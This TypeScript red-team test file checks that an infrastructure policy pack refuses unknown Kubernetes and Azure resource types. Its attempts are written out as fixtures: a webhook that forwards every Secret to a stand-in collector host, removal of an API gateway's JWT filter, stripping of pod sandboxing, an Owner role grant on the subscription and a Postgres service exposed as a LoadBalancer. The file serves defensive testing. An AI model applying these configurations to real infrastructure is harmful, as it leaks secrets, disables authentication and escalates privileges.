/**
 * Red team, class 1: types the pack does not understand. Each attempt registers (or admits) a type
 * that grants power the pack guards elsewhere; `resource-types-understood` refuses it.
 */
import { INVENTORY_POLICY } from "../../policypack/policies/inventory";
import { Attempt, find, redTeamSuite, register } from "./harness";

const both = ["dev", "prod"] as const;
const appNs = (s: string) => `ameide-${s.startsWith("dev") ? "dev" : "prod"}-app`;

const VWC = "kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration";
const CCNP = "kubernetes:cilium.io/v2:CiliumClusterwideNetworkPolicy";

const attempts: Attempt[] = [
  {
    name: "a cluster-wide Cilium policy that lets every endpoint reach the data tier",
    stacks: [...both],
    via: "program",
    program: (rs) =>
      register(rs, CCNP, "allow-all-to-data", {
        apiVersion: "cilium.io/v2",
        kind: "CiliumClusterwideNetworkPolicy",
        metadata: { name: "allow-all-to-data" },
        spec: {
          endpointSelector: { matchLabels: { "k8s:io.kubernetes.pod.namespace": "ameide-prod-data" } },
          ingress: [{ fromEntities: ["all"] }],
        },
      }),
    names: `${CCNP} 'allow-all-to-data'`,
    policy: INVENTORY_POLICY,
  },
  {
    name: "a validating webhook that sees every Secret",
    stacks: [...both],
    via: "program",
    program: (rs) =>
      register(rs, VWC, "secret-sniffer", {
        apiVersion: "admissionregistration.k8s.io/v1",
        kind: "ValidatingWebhookConfiguration",
        metadata: { name: "secret-sniffer" },
        webhooks: [
          {
            name: "sniff.example.com",
            clientConfig: { url: "https://collector.example.com/validate" },
            rules: [
              {
                apiGroups: [""],
                apiVersions: ["v1"],
                operations: ["CREATE", "UPDATE"],
                resources: ["secrets"],
              },
            ],
            sideEffects: "None",
            admissionReviewVersions: ["v1"],
            failurePolicy: "Ignore",
          },
        ],
      }),
    names: `${VWC} 'secret-sniffer'`,
    policy: INVENTORY_POLICY,
  },
  {
    name: "a mutating webhook that rewrites pods",
    stacks: ["prod"],
    via: "program",
    program: (rs) =>
      register(
        rs,
        "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration",
        "pod-rewriter",
        {
          metadata: { name: "pod-rewriter" },
          webhooks: [{ name: "rewrite.example.com", clientConfig: { url: "https://x.example.com/m" } }],
        },
      ),
    names: "MutatingWebhookConfiguration 'pod-rewriter'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "a MutatingAdmissionPolicy that strips the sandbox RuntimeClass from agent pods",
    stacks: ["dev"],
    via: "program",
    program: (rs) =>
      register(rs, "kubernetes:admissionregistration.k8s.io/v1beta1:MutatingAdmissionPolicy", "unsandbox", {
        metadata: { name: "unsandbox" },
        spec: {
          matchConstraints: {
            resourceRules: [
              { apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] },
            ],
          },
          mutations: [
            {
              patchType: "JSONPatch",
              jsonPatch: { expression: '[JSONPatch{op: "remove", path: "/spec/runtimeClassName"}]' },
            },
          ],
        },
      }),
    names: "MutatingAdmissionPolicy 'unsandbox'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "an EnvoyPatchPolicy that deletes the api gateway's JWT filter",
    stacks: [...both],
    via: "program",
    program: (rs, s) => {
      const ns = find(rs, "kubernetes:gateway.networking.k8s.io/v1:Gateway").inputs as any;
      register(rs, "kubernetes:gateway.envoyproxy.io/v1alpha1:EnvoyPatchPolicy", "drop-jwt", {
        metadata: { name: "drop-jwt", namespace: ns.metadata.namespace ?? appNs(s) },
        spec: {
          targetRef: { group: "gateway.networking.k8s.io", kind: "Gateway", name: "api" },
          type: "JSONPatch",
          jsonPatches: [
            {
              type: "type.googleapis.com/envoy.config.listener.v3.Listener",
              name: "api/https",
              operation: {
                op: "remove",
                path: "/default_filter_chain/filters/0/typed_config/http_filters/0",
              },
            },
          ],
        },
      });
    },
    names: "EnvoyPatchPolicy 'drop-jwt'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "an EnvoyExtensionPolicy that sends every request to an external processor",
    stacks: ["prod"],
    via: "program",
    program: (rs) =>
      register(rs, "kubernetes:gateway.envoyproxy.io/v1alpha1:EnvoyExtensionPolicy", "ext-proc", {
        metadata: { name: "ext-proc", namespace: "ameide-prod-gateway" },
        spec: {
          targetRefs: [{ group: "gateway.networking.k8s.io", kind: "Gateway", name: "public" }],
          extProc: [{ backendRefs: [{ name: "collector", namespace: "ameide-prod-app", port: 9000 }] }],
        },
      }),
    names: "EnvoyExtensionPolicy 'ext-proc'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "an ARM template deployment that assigns Owner on the subscription",
    stacks: [...both],
    via: "program",
    program: (rs) =>
      register(rs, "azure-native:resources:Deployment", "owner-grant", {
        resourceGroupName: "rg",
        properties: {
          mode: "Incremental",
          template: {
            $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
            contentVersion: "1.0.0.0",
            resources: [
              {
                type: "Microsoft.Authorization/roleAssignments",
                apiVersion: "2022-04-01",
                name: "[guid('owner')]",
                properties: {
                  roleDefinitionId:
                    "[subscriptionResourceId('Microsoft.Authorization/roleDefinitions', '8e3af657-a8ff-443c-a75c-2fe8c4bcb635')]",
                  principalId: "00000000-0000-0000-0000-000000000001",
                },
              },
            ],
          },
        },
      }),
    names: "azure-native:resources:Deployment 'owner-grant'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "a second cluster from an explicitly versioned module, which the AKS rules' type list might miss",
    stacks: ["dev"],
    via: "program",
    program: (rs) => {
      const c = find(rs, "azure-native:containerservice:ManagedCluster");
      register(rs, "azure-native:containerservice/v20240901:ManagedCluster", "shadow-aks", {
        ...JSON.parse(JSON.stringify(c.inputs)),
        resourceName: "shadow-aks",
      });
    },
    names: "azure-native:containerservice/v20240901:ManagedCluster 'shadow-aks'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "a Secret registered inside a List (one type, any objects)",
    stacks: ["prod"],
    via: "program",
    program: (rs) =>
      register(rs, "kubernetes:core/v1:SecretList", "bundle", {
        items: [
          { metadata: { name: "x", namespace: "ameide-prod-app" }, stringData: { password: "hunter2" } },
        ],
      }),
    names: "kubernetes:core/v1:SecretList 'bundle'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "a ServicePatch that turns a Service into a LoadBalancer",
    stacks: ["dev"],
    via: "program",
    program: (rs) =>
      register(rs, "kubernetes:core/v1:ServicePatch", "expose", {
        metadata: { name: "postgres", namespace: "ameide-dev-data" },
        spec: { type: "LoadBalancer" },
      }),
    names: "kubernetes:core/v1:ServicePatch 'expose'",
    policy: INVENTORY_POLICY,
  },
  {
    name: "a GatewayClass handed to another controller",
    stacks: ["prod"],
    via: "program",
    program: (rs) =>
      ((find(rs, "kubernetes:gateway.networking.k8s.io/v1:GatewayClass").inputs as any).spec.controllerName =
        "example.com/other-controller"),
    names: "GatewayClass",
    policy: "gateway-class-envoy-controller",
  },
  {
    name: "admitting the webhook in the policy config with a reason",
    stacks: [...both],
    via: "policy config",
    program: (rs) => register(rs, VWC, "admitted-webhook", { metadata: { name: "admitted-webhook" } }),
    policyConfig: (cfg) => ({
      ...cfg,
      [INVENTORY_POLICY]: {
        admittedTypes: [
          { type: VWC, reason: "the security team's image verification webhook, reviewed 2026-11" },
        ],
      },
    }),
    names: `${VWC} 'admitted-webhook'`,
    policy: INVENTORY_POLICY,
  },
  {
    name: "admitting an unknown type with a placeholder reason",
    stacks: ["dev"],
    via: "policy config",
    program: (rs) =>
      register(rs, "kubernetes:example.com/v1:Backdoor", "door", { metadata: { name: "door" } }),
    policyConfig: (cfg) => ({
      ...cfg,
      [INVENTORY_POLICY]: { admittedTypes: [{ type: "kubernetes:example.com/v1:Backdoor", reason: "TODO" }] },
    }),
    names: "kubernetes:example.com/v1:Backdoor 'door'",
    policy: INVENTORY_POLICY,
  },
];

// The stack config cannot add a resource type (the program decides the types; config only feeds
// them), so its door for class 1 is the stack's policy config (admittedTypes).
redTeamSuite(1, attempts, ["program", "policy config"]);
